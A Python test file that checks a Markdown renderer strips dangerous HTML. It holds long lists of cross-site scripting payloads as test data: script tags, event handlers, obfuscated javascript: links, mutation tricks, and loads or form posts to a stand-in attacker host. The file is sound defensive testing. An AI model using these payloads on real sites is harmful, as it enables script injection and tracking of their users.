"""Nothing a body holds can run, load or send anything when its page is opened.

Each payload is looked at as a parsed page, not as text: what counts is which tags, attributes and addresses a browser
would find. The controls show that Markdown alone lets the payloads through, so the tests could fail.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from milepost import prose
from milepost.prose.inline import html_of

SAFE_TAGS = """
    p h2 h3 h4 h5 h6 ul ol li dl dt dd blockquote pre code em strong b i u del ins s small mark cite q abbr time var
    samp kbd sup sub a img table caption thead tbody tfoot tr th td hr br wbr details summary div span section figure
    figcaption
"""
SAFE_ATTRIBUTES = """
    href src alt title class id rel loading start width height colspan rowspan scope open datetime lang dir aria-label
"""


class Page(HTMLParser):
    """What a browser would find in a page: the harm, in words."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.harm: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in SAFE_TAGS.split():
            self.harm.append(f"<{tag}>")
        for name, value in attrs:
            if name not in SAFE_ATTRIBUTES.split():
                self.harm.append(f"{name}=")
            if name in ("href", "src"):
                self.address(tag, re.sub(r"[\x00-\x20]", "", value or "").replace("\\", "/").lower())
            if name == "id" and not (value or "").startswith("u-"):
                self.harm.append(f"id={value}")

    def address(self, tag, plain):
        scheme = re.match(r"[a-z][a-z0-9+.-]*:", plain)
        if plain.startswith("//") or (scheme and scheme[0] not in ("http:", "https:", "mailto:", "tel:")):
            self.harm.append(plain)
        if tag == "img" and scheme:
            self.harm.append(f"loads {plain}")

    def handle_comment(self, data):
        self.harm.append("comment")

    def handle_decl(self, decl):
        self.harm.append("declaration")

    def handle_pi(self, data):
        self.harm.append("instruction")


RAW = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "a <img src='x' onerror='alert(1)'> b",
    '<svg onload="alert(1)"></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x.swf></object><embed src=x.swf>",
    '<form action="https://evil.example"><input name=a><button>x</button></form>',
    "<style>*{background:url(//evil.example)}</style>",
    '<p style="background:url(//evil.example)">x</p>',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href=" \t javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<img src="//evil.example/pixel.png">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="https://evil.example/x.png 1x" src=a.png>',
    "<video src=x onerror=alert(1)></video><audio src=x>",
    '<div id="main" class="site-header">x</div>',
    '<p id=getElementById name=forms onclick="alert(1)">x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    '<x onclick="alert(1)" a="',
    "<div onmouseover=alert(1)\nclass=x>y",
    "- a\n\n  <div onclick=alert(1)>\n\n> <b onclick=alert(1)>x",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "[x](\\\\\\\\evil.example)",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/png;base64,AAAA)",
    "![x][y]\n\n[y]: https://evil.example/pixel.png",
    "[![x](https://evil.example/pixel.png)](javascript:alert(1))",
]
QUOTING = [
    '[x](a "onmouseover=alert(1) \\" onclick=alert(2)")',
    '![x" onerror="alert(1)](a.png)',
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    '```"onclick=alert(1)><script>\nx\n```',
    "```js onload=alert(1)\nx",
    "| <img src=x onerror=alert(1)> |\n| --- |\n| [x](javascript:alert(1)) |",
    "a[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)> {: onclick=alert(1)}",
    "*x*{: onmouseover=alert(1)}",
    "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03 <b>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "- [x] <img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("payload", RAW + MARKDOWN + QUOTING)
def test_a_page_made_of_a_payload_holds_nothing_that_could_do_harm(payload):
    for body in (payload, f"words\n{payload}\nwords", f"> - {payload}", f"<div>\n{payload}"):
        assert Page(prose.render(body, lambda target, picture: target)).harm == []


@pytest.mark.parametrize("payload", RAW + MARKDOWN)
def test_control_without_the_last_pass_each_payload_would_do_harm(payload):
    assert Page(html_of(payload)).harm != []


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "//evil.example", "data:text/html,x", "\tjavascript:x", "/\\evil"]
)
def test_not_even_what_resolve_answers_can_be_harmful(address):
    html = prose.render("[x](a.md) ![y](b.png)", lambda target, picture: address)
    assert Page(html).harm == []
    assert html == "<p>x y</p>"


def test_what_resolve_answers_is_quoted():
    html = prose.render("[x](a.md)", lambda target, picture: 'b"><script>')
    assert html == '<p><a href="b&quot;&gt;&lt;script&gt;">x</a></p>'


def test_links_to_other_sites_give_nothing_away_and_open_no_window():
    html = prose.render('<a href="https://example.com" target="_blank" rel="opener">x</a> [y](z.md)', lambda t, p: t)
    assert html == (
        '<p><a href="https://example.com" rel="noopener noreferrer nofollow">x</a> <a href="z.md">y</a></p>'
    )


def test_names_and_classes_of_an_author_do_not_reach_the_page():
    html = prose.render('<p id="search" class="hero alert">x</p>\n\n`y`', lambda t, p: t)
    assert html.startswith('<p class="alert">x</p>')
    assert "id=" not in html


def test_text_that_looks_like_our_own_marks_is_text():
    body = '`<p data-at="3">` and data-at="4" <p data-at="5" id="u-fn-1">x</p>'
    html = prose.render(body, lambda t, p: t)
    assert '<code>&lt;p data-at="3"&gt;</code> and data-at="4"' in html
    assert 'data-at="5"' not in html
    assert "id=" not in html


PIECES = [
    '<a href="',
    "javascript:",
    '">',
    "<img src=x ",
    "onerror=alert(1)",
    ">",
    "<",
    "</a>",
    "'",
    '"',
    "\n",
    "\n\n",
    "- ",
    "> ",
    "[x](",
    ")",
    "`",
    "```",
    "<!--",
    "-->",
    "<script>",
    "</script>",
    "<svg>",
    "<math>",
    "<style>",
    "<table>",
    "<td>",
    "&#106;",
    "&colon;",
    "//e.x",
    'data-at="3"',
    " id=x",
    "<p ",
    "|a|b|\n|-|-|\n",
    "**",
    "![y](",
    "https://e.x/",
    "{% x %}",
    "\x00",
    "\x02wzxhzdk:0\x03",
    "\\",
    "[^1]",
    "[^1]: ",
    "<h1>",
    '<wbr data-at="1">',
    "<details ",
    "<x:y ",
    "/",
    "=",
    "::: a",
]


@settings(max_examples=400, derandomize=True, deadline=None)
@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=16).map("".join))
def test_no_mixture_of_signs_does_harm_or_stops_the_program(body):
    assert Page(prose.render(body, lambda target, picture: target)).harm == []
    prose.inspect(body, "a.md", 1)
    prose.links(body)
    prose.first_paragraph(body)
